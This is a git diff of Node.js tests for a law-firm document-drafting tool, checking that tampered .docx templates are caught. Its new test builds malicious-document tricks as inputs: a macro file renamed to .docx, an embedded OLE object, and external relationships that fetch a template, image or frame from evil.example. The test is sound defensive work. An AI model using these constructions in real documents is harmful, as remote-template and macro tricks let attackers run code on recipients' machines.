@@ -8,7 +8,8 @@ import { join } from 'node:path';
 import test from 'node:test';
 import tls from 'node:tls';
 import { bridgeOf } from './bridge.mjs';
-import { engross, practice, temporaryFolder } from './engross.mjs';
+import { zip } from './docx.mjs';
+import { changedFirm, engross, parts, practice, temporaryFolder } from './engross.mjs';
 
 // What `bytes` over plain TCP are answered with, until the helper closes.
 function plain(port, bytes) {
@@ -122,4 +123,52 @@ test('A45 what the helper says on its way names no client, no value and no token
   assert.ok(one.name.length > 3);
   for (const secret of ['Whitfield', 'Blackwater', one.name, 'Jo Park', bridge.owner]) assert.ok(!clio.said().includes(secret), secret);
   assert.deepEqual(readdirSync(clio.home, { recursive: true }).filter((name) => /\.log$/.test(name)), []);
+});
+
+// The template "will" as `change` leaves its parts: what the document made from it is answered with.
+async function madeFrom(t, change) {
+  const share = changedFirm(t, 'users.json', () => undefined);
+  const path = join(share, 'templates/will/will.docx');
+  const all = parts(path);
+  change(all);
+  writeFileSync(path, zip(Object.entries(all)));
+  const bridge = bridgeOf(await practice(t, [], { share }));
+  const draft = (await bridge.call('POST', '/api/v1/drafts', { body: { matter: '00001-Whitfield' } })).body.draft;
+  return bridge.call('POST', `/api/v1/drafts/${draft}/documents`, { body: { templates: ['will'], confirm: 'Jo Park' } });
+}
+
+const related = (all, relation) => {
+  const name = 'word/_rels/document.xml.rels';
+  all[name] = all[name].replace('</Relationships>', `${relation}</Relationships>`);
+};
+const relation = (type, target, more = '') =>
+  `<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${more}/>`;
+const outside = ' TargetMode="External"';
+
+test('A41 what would start a program is no document for the word processor; what would fetch one is told before it is opened', async (t) => {
+  const refused = [
+    ['macros under the name .docx', /macro file renamed to \.docx/, (all) => {
+      all['[Content_Types].xml'] = all['[Content_Types].xml'].replace('wordprocessingml.document.main+xml', 'ms-word.document.macroEnabled.main+xml').replace('application/vnd.openxmlformats-officedocument.ms-word', 'application/vnd.ms-word');
+    }],
+    ['an embedded object', /embedded object or control/, (all) => {
+      all['word/embeddings/oleObject1.bin'] = 'x';
+      all['[Content_Types].xml'] = all['[Content_Types].xml'].replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>');
+      related(all, relation('oleObject', 'embeddings/oleObject1.bin'));
+    }],
+  ];
+  for (const [name, why, change] of refused) {
+    const answer = await madeFrom(t, change);
+    assert.equal(answer.status, 422, name);
+    assert.match(answer.body.error.message, why, name);
+  }
+  const told = [
+    ['a template elsewhere', /attached to a template elsewhere.*http:\/\/evil\.example\/t\.dotm/, (all) => related(all, relation('attachedTemplate', 'http://evil.example/t.dotm', outside))],
+    ['a picture elsewhere', /picture that Word fetches from elsewhere.*http:\/\/evil\.example\/i\.png/, (all) => related(all, relation('image', 'http://evil.example/i.png', outside))],
+    ['a frame elsewhere', /frame from elsewhere.*http:\/\/evil\.example\/f/, (all) => related(all, relation('frame', 'http://evil.example/f', outside))],
+  ];
+  for (const [name, what, change] of told) {
+    const answer = await madeFrom(t, change);
+    assert.equal(answer.status, 200, name);
+    assert.match(answer.body.documents[0].notices.join('\n'), what, name);
+  }
 });
